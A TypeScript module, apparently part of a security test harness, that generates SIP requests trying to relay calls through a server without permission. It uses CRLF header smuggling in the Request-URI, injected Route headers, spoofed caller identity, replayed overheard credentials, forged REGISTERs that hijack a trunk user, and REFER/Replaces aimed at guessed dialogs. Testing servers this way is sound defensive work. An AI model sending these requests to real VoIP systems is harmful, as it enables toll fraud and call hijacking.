/** What a relay attempt may name. All addresses are `host:port`. */
export interface RelayStage {
  /** The server under attack. */
  readonly server: string;
  /** The carrier behind its trunk. */
  readonly carrier: string;
  /** Somebody else, who must never hear of it. */
  readonly elsewhere: string;
  /** Where the attacker's phone listens. */
  readonly phone: string;
  /** Credentials that the server sent to the carrier, as an eavesdropper saw them. */
  readonly overheard: string;
  /** A call that is up at the server: its Call-ID is known, its tags are not. */
  readonly callId: string;
}

export interface RelayAttempt {
  readonly title: string;
  readonly method: string;
  readonly uri: string;
  readonly from?: string;
  readonly to?: string;
  readonly lines?: readonly string[];
}

const number = '+12025550123';
const trunkUser = 'patchbay';

/** Ways to place a call, or to send anything, through a server without a right to. */
export function relayAttempts(stage: RelayStage): readonly RelayAttempt[] {
  return [...byAddress(stage), ...byRoute(stage), ...byIdentity(stage), ...byTransfer(stage), ...byOtherMethods(stage)];
}

function invite(title: string, uri: string, more: Partial<RelayAttempt> = {}): RelayAttempt {
  return { title, method: 'INVITE', uri, ...more };
}

function byAddress({ server, carrier, elsewhere }: RelayStage): RelayAttempt[] {
  const [host = '', port = ''] = carrier.split(':');
  return [
    invite("a Request-URI of the carrier's host", `sip:${number}@${carrier}`),
    invite('a Request-URI of a foreign host', `sip:${number}@${elsewhere}`),
    invite("a Request-URI of the carrier's name", `sip:${number}@carrier.example`),
    invite('maddr', `sip:${number}@${server.split(':')[0]}:${port};maddr=${host}`),
    invite('a telephone URI', `tel:${number}`),
    invite('a secure telephone URI of the carrier', `sips:${number}@${carrier};transport=tcp`),
    invite('an address inside the user part', `sip:${encodeURIComponent(`${number}@${carrier}`)}@${server}`),
    invite('a percent route (as old mail relays took)', `sip:${number}%25${host}@${server}`),
    invite('a line feed in the user part', `sip:${number}%0d%0aRoute:%20%3Csip:${carrier}%3E@${server}`),
    invite('headers in the Request-URI', `sip:${number}@${server}?Route=%3Csip:${carrier};lr%3E`),
    invite('a trunk context', `sip:${number};tgrp=carrier;trunk-context=${host}@${server}`),
    invite('a number that no rule has', `sip:00${number.slice(1)}@${server};user=phone`),
  ];
}

function byRoute({ server, carrier, elsewhere }: RelayStage): RelayAttempt[] {
  return [
    invite('a Route to the carrier', `sip:${number}@${server}`, { lines: [`Route: <sip:${carrier};lr>`] }),
    invite('a Route through us to the carrier', `sip:${number}@${server}`, {
      lines: [`Route: <sip:${server};lr>, <sip:${carrier};lr>`],
    }),
    invite('a strict Route', `sip:${server}`, { lines: [`Route: <sip:${number}@${carrier}>`] }),
    invite('a Route to somebody else', `sip:${number}@${server}`, { lines: [`Route: <sip:${elsewhere};lr>`] }),
    invite('a Record-Route and a Path', `sip:${number}@${server}`, {
      lines: [`Record-Route: <sip:${carrier};lr>`, `Path: <sip:${carrier};lr>`],
    }),
    invite('a folded header that hides a Route', `sip:${number}@${server}`, {
      lines: [`X-A: 1`, ` Route: <sip:${carrier};lr>`, `X-Route: sip:${carrier}`],
    }),
    invite('To at the carrier', `sip:${number}@${server}`, { to: `<sip:${number}@${carrier}>` }),
  ];
}

function byIdentity({ server, carrier, elsewhere, overheard }: RelayStage): RelayAttempt[] {
  const target = `sip:${number}@${server}`;
  const digest = (realm: string) =>
    `Digest username="${trunkUser}", realm="${realm}", nonce="n", uri="${target}", response="${'0'.repeat(32)}"`;
  return [
    invite("the trunk's user in From", target, { from: `<sip:${trunkUser}@${carrier}>` }),
    invite("the trunk's user of our own domain in From", target, { from: `<sip:${trunkUser}@${server}>` }),
    invite('an asserted identity', target, {
      lines: [
        `P-Asserted-Identity: <sip:${trunkUser}@${carrier}>`,
        `P-Preferred-Identity: <sip:${trunkUser}@${carrier}>`,
        `Remote-Party-ID: <sip:${trunkUser}@${carrier}>;party=calling`,
        'X-Trunk: carrier',
        `X-Forwarded-For: ${carrier}`,
      ],
    }),
    invite('a guessed line of our registration', `sip:${trunkUser}@${server};line=000000000000000000000000`),
    invite('credentials of ours, replayed', target, { lines: [`Authorization: ${overheard}`] }),
    invite('credentials of ours, replayed to a proxy', target, { lines: [`Proxy-Authorization: ${overheard}`] }),
    invite('credentials that are made up', target, { lines: [`Authorization: ${digest(server)}`] }),
    {
      title: "a REGISTER of the trunk's user",
      method: 'REGISTER',
      uri: `sip:${server}`,
      to: `<sip:${trunkUser}@${server}>`,
      lines: [`Contact: <sip:${trunkUser}@${elsewhere}>`],
    },
    {
      title: 'a REGISTER of a number',
      method: 'REGISTER',
      uri: `sip:${server}`,
      to: `<sip:${number}@${server}>`,
      lines: [`Contact: <sip:${number}@${carrier}>;expires=3600`],
    },
    {
      title: 'a REGISTER of a wildcard',
      method: 'REGISTER',
      uri: `sip:${server}`,
      to: `<sip:*@${server}>`,
      lines: [`Contact: <sip:${elsewhere}>`],
    },
    invite('the number just registered', target),
  ];
}

function byTransfer({ server, carrier, callId }: RelayStage): RelayAttempt[] {
  const referTo = `Refer-To: <sip:${number}@${carrier}>`;
  const refer = (title: string, more: Partial<RelayAttempt>): RelayAttempt => ({
    title,
    method: 'REFER',
    uri: `sip:100@${server}`,
    ...more,
  });
  return [
    refer('a REFER without a call', { lines: [referTo] }),
    refer('a REFER that names a call', { lines: [referTo, `Target-Dialog: ${callId};local-tag=a;remote-tag=b`] }),
    refer('a REFER into a guessed dialog', {
      to: `<sip:100@${server}>;tag=guess`,
      lines: [referTo, `Call-ID: ${callId}`],
    }),
    invite('Replaces of a call whose tags are unknown', `sip:100@${server}`, {
      lines: [`Replaces: ${callId};to-tag=a;from-tag=b`, 'Require: replaces'],
    }),
    invite('Join of a call whose tags are unknown', `sip:100@${server}`, {
      lines: [`Join: ${callId};to-tag=a;from-tag=b`, 'Require: join'],
    }),
    invite('Also, Referred-By and History-Info', `sip:${number}@${server}`, {
      lines: [
        `Also: <sip:${number}@${carrier}>`,
        `Referred-By: <sip:${trunkUser}@${carrier}>`,
        `History-Info: <sip:${number}@${carrier}>;index=1`,
        `Diversion: <sip:${number}@${carrier}>;reason=unconditional`,
      ],
    }),
  ];
}

function byOtherMethods({ server, carrier, elsewhere }: RelayStage): RelayAttempt[] {
  const route = [`Route: <sip:${elsewhere};lr>`];
  const relayed = (method: string, uri = `sip:${number}@${carrier}`): RelayAttempt => ({
    title: `${method} for the carrier`,
    method,
    uri,
    lines: route,
  });
  return [
    relayed('MESSAGE'),
    relayed('SUBSCRIBE'),
    relayed('NOTIFY'),
    relayed('PUBLISH'),
    relayed('INFO'),
    relayed('BYE'),
    relayed('UPDATE'),
    relayed('CANCEL'),
    relayed('ACK'),
    relayed('FOO', `sip:${server}`),
  ];
}
